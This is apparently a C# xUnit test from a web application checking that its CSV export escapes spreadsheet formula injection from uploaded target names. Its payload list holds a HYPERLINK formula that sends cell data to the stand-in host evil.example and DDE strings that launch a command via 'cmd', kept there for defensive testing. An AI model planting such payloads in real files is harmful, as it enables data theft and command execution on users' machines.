using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using NghiQuyet.Core.Domain;
using Xunit.Abstractions;

namespace NghiQuyet.Web.Tests.Security;

/// <summary>
/// Issue 12, defect 3: target names come from uploaded documents; a name like <c>=HYPERLINK(…)</c> must reach the CSV
/// as text, never as a formula a spreadsheet runs. The export is read back cell by cell.
/// </summary>
public sealed class CsvInjectionTests(ITestOutputHelper output) : IDisposable
{
    private readonly WebAppFactory _factory = new();

    /// <summary>What a hostile report can carry in a name, a unit, an item label (OWASP's list of formula starts).</summary>
    public static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Bấm để xem\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1 sau dấu tab",
        "\r=1+1 sau dấu CR",
        "=1+1",
        "-1",
    ];

    public void Dispose() => _factory.Dispose();

    [Fact]
    public async Task Every_cell_starting_like_a_formula_is_written_as_text_and_numbers_stay_numbers()
    {
        var code = TestData.OtherCommune;
        var targets = ExploreData.Targets(_factory, code);
        var firstOfficial = ExploreData.Official(_factory, targets[0].Id).Keys.Min();
        ExploreData.With(_factory, db =>
        {
            for (var i = 0; i < Payloads.Length; i++)
                db.Database.ExecuteSql($"UPDATE \"Targets\" SET \"Name\" = {Payloads[i]} WHERE \"Id\" = {targets[i].Id}");
            db.Database.ExecuteSql($"UPDATE \"Targets\" SET \"Unit\" = {"=2+5"}, \"Item\" = {"@A1"} WHERE \"Id\" = {targets[Payloads.Length].Id}");
            var resolutionId = targets[0].ResolutionId;
            db.Database.ExecuteSql($"UPDATE \"PreviousResults\" SET \"Name\" = {Payloads[0]} WHERE \"ResolutionId\" = {resolutionId}");
            // A negative figure is a number, not a formula: it must stay readable as one.
            db.Database.ExecuteSql($"UPDATE \"Measurements\" SET \"Value\" = {-1.5m} WHERE \"TargetId\" = {targets[Payloads.Length + 1].Id} AND \"Year\" = {firstOfficial}");
            return 0;
        });

        var client = await _factory.SignedInAsync("admin");
        var response = await client.GetAsync($"/Units/{code}/Export?format=csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var cells = ParseCsv(Encoding.UTF8.GetString((await response.Content.ReadAsByteArrayAsync())[3..]));

        var dangerous = cells.Where(c => c.Length > 0 && "=+-@\t\r".Contains(c[0]) && !IsPlainNumber(c)).ToList();
        var hostile = cells.Count(c => c.StartsWith('\'') && c.Length > 1 && "=+-@\t\r".Contains(c[1]));
        output.WriteLine($"{cells.Count} cells read back, {hostile} hostile cells neutralised, {dangerous.Count} a spreadsheet would run");
        Assert.True(dangerous.Count == 0, "cells a spreadsheet would run: " + string.Join(" | ", dangerous));
        // Neutralised, not dropped: the text is all there after the apostrophe.
        foreach (var payload in Payloads.Where(p => !IsPlainNumber(p)))
            Assert.Contains("'" + payload, cells);
        Assert.Contains("'=2+5", cells);
        Assert.Contains("'@A1", cells);
        Assert.Contains("-1,5", cells);
        Assert.Contains("-1", cells); // a name that is a plain number is harmless as it is
    }

    private static bool IsPlainNumber(string s) => System.Text.RegularExpressions.Regex.IsMatch(s, @"^-?\d+(,\d+)?$");

    /// <summary>RFC 4180 with ';': quoted fields may hold ';', doubled quotes and line breaks.</summary>
    internal static List<string> ParseCsv(string text)
    {
        var cells = new List<string>();
        var sb = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { sb.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else sb.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ';') { cells.Add(sb.ToString()); sb.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { cells.Add(sb.ToString()); sb.Clear(); i++; }
            else sb.Append(c);
        }
        if (sb.Length > 0)
            cells.Add(sb.ToString());
        return cells;
    }
}
